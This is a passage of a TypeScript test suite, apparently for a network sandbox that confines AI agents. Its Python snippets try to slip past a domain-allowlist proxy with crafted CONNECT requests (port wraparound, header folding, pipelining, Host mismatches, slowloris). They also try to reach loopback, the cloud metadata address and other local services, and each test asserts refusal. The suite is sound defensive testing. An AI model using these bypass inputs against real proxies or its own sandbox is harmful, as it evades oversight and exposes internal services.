        `c = socket.socket(socket.AF_UNIX); c.connect('\\0aur-${tag}-own'); c.sendall(b'own'); print('abstract', l.accept()[0].recv(10).decode())`,
        "print('route', 'dev' in subprocess.run(['/usr/sbin/ip', 'route', 'show'], capture_output=True, text=True, check=True).stdout)",
        "print('route6', subprocess.run(['/usr/sbin/ip', '-6', 'route', 'show'], capture_output=True, text=True).returncode)",
      ].join('\n'),
    );
    assert.equal(r.status, 0, `${r.stdout}\n${r.stderr}`);
    assert.deepEqual(
      r.stdout.trim().split('\n'),
      ['tcp world', 'udp echo ordinary', 'socketpair pair', 'abstract own', 'route True', 'route6 0'],
      r.stderr,
    );
  });

  test('two agents: one allowed a loopback port reaches another agent listening there, whose policy lets nothing in', async () => {
    const b = human.newAgent();
    const port = P(12);
    setPolicy('deny', '--port', String(port));
    const setB = human.au(['net', 'set', '-a', b, 'deny']);
    assert.equal(setB.status, 0, setB.stderr);
    const listener = bgAgent(
      `import socket\nl = socket.socket()\nl.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\nl.bind(('127.0.0.1', ${port}))\nl.listen(4)\nl.settimeout(8)\nprint('ready')\ntry:\n  c, a = l.accept(); c.settimeout(3)\n  print('B GOT', c.recv(100).decode()); c.sendall(b'from-B')\nexcept OSError as e: print('nothing', type(e).__name__)`,
      b,
    );
    await until(() => listener.output().includes('ready'));
    // The other user's try runs while A's does (both may wait out a dropped SYN).
    const otherTry = background([
      'runuser',
      '-u',
      other.name,
      '--',
      'python3',
      '-u',
      '-c',
      `import socket\ntry:\n  socket.create_connection(('127.0.0.1', ${port}), timeout=2); print('connected')\nexcept OSError as e: print(type(e).__name__)`,
    ]);
    const r = agentPy(
      `import socket\ntry:\n  s = socket.create_connection(('127.0.0.1', ${port}), timeout=3); s.sendall(b'from-A'); print('A GOT', s.recv(100).decode())\nexcept OSError as e: print('refused', type(e).__name__)`,
    );
    // A's try is over (its connect or its read timed out): whatever B accepted, it has received and
    // printed by now; a second for the line to come through, rather than B's own 8 s of waiting.
    await until(() => /B GOT|nothing/.test(listener.output()), 1000);
    await until(() => /\n/.test(otherTry.output()));
    const fromOther = (await otherTry.stop()).trim();
    const out = await listener.stop();
    assert.notEqual(fromOther, 'connected', 'another local user is kept out of B');
    assert.deepEqual(
      { bGotData: out.includes('B GOT from-A'), aGotReply: r.stdout.includes('A GOT from-B') },
      { bGotData: false, aGotReply: false },
      out + r.stdout,
    );
  });

  const rawProxy = (requests: readonly string[]): string => `import json, os, socket
port = int(os.environ['HTTPS_PROXY'].rsplit(':', 1)[1])
for req in json.loads(${JSON.stringify(JSON.stringify(requests))}):
  s = socket.create_connection(('127.0.0.1', port), timeout=5)
  s.sendall(req.encode('latin1'))
  got = b''
  try:
    while len(got) < 4000:
      d = s.recv(4000)
      if not d: break
      got += d
  except OSError: pass
  print(json.dumps(got.decode('latin1')))
  s.close()`;

  test('domains proxy: request-line and header tricks (ports 0/65536/080/+80, brackets, Host mismatch, folding, pipelining, huge head, lowercase, absolute form, LF only)', () => {
    setPolicy('domains', '--domain', WORLD);
    const requests = [
      `CONNECT ${WORLD}:0 HTTP/1.1\r\n\r\n`,
      `CONNECT ${WORLD}:65536 HTTP/1.1\r\n\r\n`,
      `CONNECT ${WORLD}:65616 HTTP/1.1\r\n\r\n`, // 65616 mod 65536 = 80
      `CONNECT ${WORLD}:080 HTTP/1.1\r\n\r\n`,
      `CONNECT ${WORLD}:+80 HTTP/1.1\r\n\r\n`,
      `CONNECT ${WORLD}:8080 HTTP/1.1\r\n\r\n`,
      `CONNECT [${WORLD}]:80 HTTP/1.1\r\n\r\n`,
      `CONNECT ${OTHER}:80 HTTP/1.1\r\nHost: ${WORLD}:80\r\n\r\n`,
      `CONNECT ${OTHER}:80 HTTP/1.1\r\nX: a\r\n ${WORLD}:80\r\n\r\n`,
      `GET / HTTP/1.1\r\nHost: ${WORLD}\r\n\r\nCONNECT ${OTHER}:80 HTTP/1.1\r\n\r\n`,
      `CONNECT ${OTHER}:80 HTTP/1.1\r\nX: ${'a'.repeat(20_000)}\r\n\r\n`,
      `connect ${OTHER}:80 HTTP/1.1\r\n\r\n`,
      `CONNECT http://${OTHER}:80/ HTTP/1.1\r\n\r\n`,
      `CONNECT ${OTHER}:80 HTTP/1.1\n\n`,
      `CONNECT ${OTHER}:80@${WORLD}:80 HTTP/1.1\r\n\r\n`,
      `CONNECT ${WORLD}.${OTHER}:80 HTTP/1.1\r\n\r\n`,
      `CONNECT ${OTHER}:80 HTTP/1.1\r\nHost: ${WORLD}\r\nHost: ${OTHER}\r\n\r\n`,
      `CONNECT ${OTHER}:80 HTTP/1.1\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n`,
    ];
    const r = agentPy(rawProxy(requests));
    assert.equal(r.status, 0, r.stderr);
    const answers = r.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as string);
    assert.equal(answers.length, requests.length, r.stdout);
    answers.forEach((a, i) =>
      assert.doesNotMatch(a, / 200 /, `request ${i}: ${JSON.stringify(requests[i]!.slice(0, 80))} -> ${a.slice(0, 200)}`),
    );
  });

  test('domains proxy: a head sent a byte at a time (slowloris) is cut off by the head timeout', () => {
    setPolicy('domains', '--domain', WORLD);
    const r = agentPy(`import os, socket, time
port = int(os.environ['HTTPS_PROXY'].rsplit(':', 1)[1])
s = socket.create_connection(('127.0.0.1', port), timeout=2)
start = time.time(); got = b''
for ch in b'CONNECT ${WORLD}:80 HTTP/1.1\\r\\nX: ' + b'a' * 400:
  try:
    s.send(bytes([ch]))
    s.settimeout(0.05); got += s.recv(200)
    if got: break
  except socket.timeout: pass
  except OSError: break
  if time.time() - start > 20: break
print(int(time.time() - start), got.split(b'\\r\\n')[0].decode() or 'closed')`);
    assert.equal(r.status, 0, r.stderr);
    const [secs, line] = r.stdout.trim().split(' ', 2);
    assert.ok(Number(secs) < 20, r.stdout);
    assert.doesNotMatch(line ?? '', / 200 /, r.stdout);
  });

  test('domains proxy: two CONNECTs pipelined in one packet: the second is tunnelled to the first (listed) host, never decided by the proxy', () => {
    setPolicy('domains', '--domain', WORLD);
    const r = agentPy(rawProxy([`CONNECT ${WORLD}:80 HTTP/1.1\r\n\r\nCONNECT ${OTHER}:80 HTTP/1.1\r\n\r\n`]));
    assert.equal(r.status, 0, r.stderr);
    const a = JSON.parse(r.stdout.trim()) as string;
    assert.equal(a.match(/200 Connection Established/g)?.length, 1, a);
    assert.match(a, /HTTP\/1\.[01] [45]\d\d/, 'the second request reached the listed upstream (http.server refuses CONNECT)');
  });

  test('domains proxy: listed names resolving to loopback, ::1, ::ffff:127.0.0.1 and the metadata address, with and without the trailing dot', () => {
    setPolicy('domains', '--domain', LO, '--domain', V6LO, '--domain', MAPPED, '--domain', META);
    const requests = [LO, `${LO}.`, V6LO, MAPPED, `${MAPPED}.`, META, LO.toUpperCase()].map((n) => `CONNECT ${n}:80 HTTP/1.1\r\n\r\n`);
    const r = agentPy(rawProxy(requests));
    assert.equal(r.status, 0, r.stderr);
    const answers = r.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as string);
    answers.forEach((a, i) => assert.match(a, /^HTTP\/1\.1 403 /, `${requests[i]} -> ${a.slice(0, 120)}`));
  });

  test("domains proxy: a listed name resolving to one of the machine's own non-loopback addresses reaches a local service as the human", () => {
    setPolicy('domains', '--domain', SELF);
    const r = agentPy(rawProxy([`CONNECT ${SELF}:80 HTTP/1.1\r\n\r\nGET / HTTP/1.0\r\n\r\n`]));
    assert.equal(r.status, 0, r.stderr);
    const answer = JSON.parse(r.stdout.trim()) as string;
    assert.doesNotMatch(answer, /local-secret/);
    assert.match(answer, /^HTTP\/1\.1 403 .*\r\n\r\nau: refused by the network policy: .* an address of this machine/s, answer);
  });

  test('domains: the agent cannot reach another address or port of loopback beside the proxy, nor the proxy over IPv6', () => {
    setPolicy('domains', '--domain', WORLD);
    // All five doors are tried at once, each in its own thread with its own 3 s timeout.
    const r = agentPy(`${PY_AT_ONCE}
import os
port = int(os.environ['HTTPS_PROXY'].rsplit(':', 1)[1])
def door(fam, addr):
  try:
    s = socket.socket(fam); s.settimeout(3); s.connect(addr); say('CONNECTED', addr)
  except OSError as e: say('refused', addr)
def mapped():
  try:
    s = socket.socket(socket.AF_INET6); s.settimeout(3); s.connect(('::ffff:127.0.0.1', port)); say('mapped ok')
  except OSError: say('mapped refused')
for fam, addr in [(socket.AF_INET, ('127.0.0.2', port)), (socket.AF_INET6, ('::1', port)), (socket.AF_INET, ('127.0.0.1', ${P(3)})), (socket.AF_INET, ('${HOST}', port))]:
  go(door, fam, addr)
go(mapped)
done()`);
    assert.equal(r.status, 0, r.stderr);
    assert.equal(r.stdout.trim().split('\n').length, 5, `every door was tried to its end: ${r.stdout}`);
    assert.doesNotMatch(r.stdout, /CONNECTED/, r.stdout);
  });
});
